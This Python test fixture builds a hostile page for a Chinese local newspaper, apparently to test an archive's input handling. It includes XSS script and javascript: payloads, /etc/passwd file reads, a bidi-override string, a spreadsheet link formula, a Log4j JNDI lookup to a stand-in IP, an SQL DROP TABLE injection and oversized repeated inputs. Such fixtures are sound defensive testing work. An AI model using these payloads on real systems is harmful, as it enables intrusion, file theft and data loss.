"""Articles that someone made to do harm, or that damage made look like it; every line is our own writing."""

SCRIPT = "<script>alert('桥')</script><b>粗</b>&amp;<img src='file:///etc/passwd'><img src=http://192.0.2.1/x.png>"
BIDI = "青龙\u202e桥\u2066通车\u200f了"
FORMULA = '=HYPERLINK("http://192.0.2.1/","点这里")'
LINES = (
    SCRIPT,
    f"村民说：{BIDI}。",
    FORMULA,
    "![图](http://192.0.2.1/a.png) [去这里](javascript:alert(1))",
    "\\input{/etc/passwd} %s %n {0} ${jndi:ldap://192.0.2.1/a} '; DROP TABLE article; --",
    "<mark>假命中</mark>" * 20,
    "<table>" + "<tr><td>格</td></tr>" * 500 + "</table>",
    "桥" * 20_000,
    "2025年3月5日，" * 1_000,
)


def hostile_page(day: str = "2025-03-08", *more: str) -> str:
    """A page with all of it and some lines more, in headline, byline and text."""
    body = "\n\n".join((*LINES, *more))
    head = f"paper: 怀川示范报\ndate: {day}\npage: 2\nsection: <i>要闻</i>"
    return f"---\n{head}\n---\n# {SCRIPT}\n\n## ——{BIDI}\n\n{body}\n"
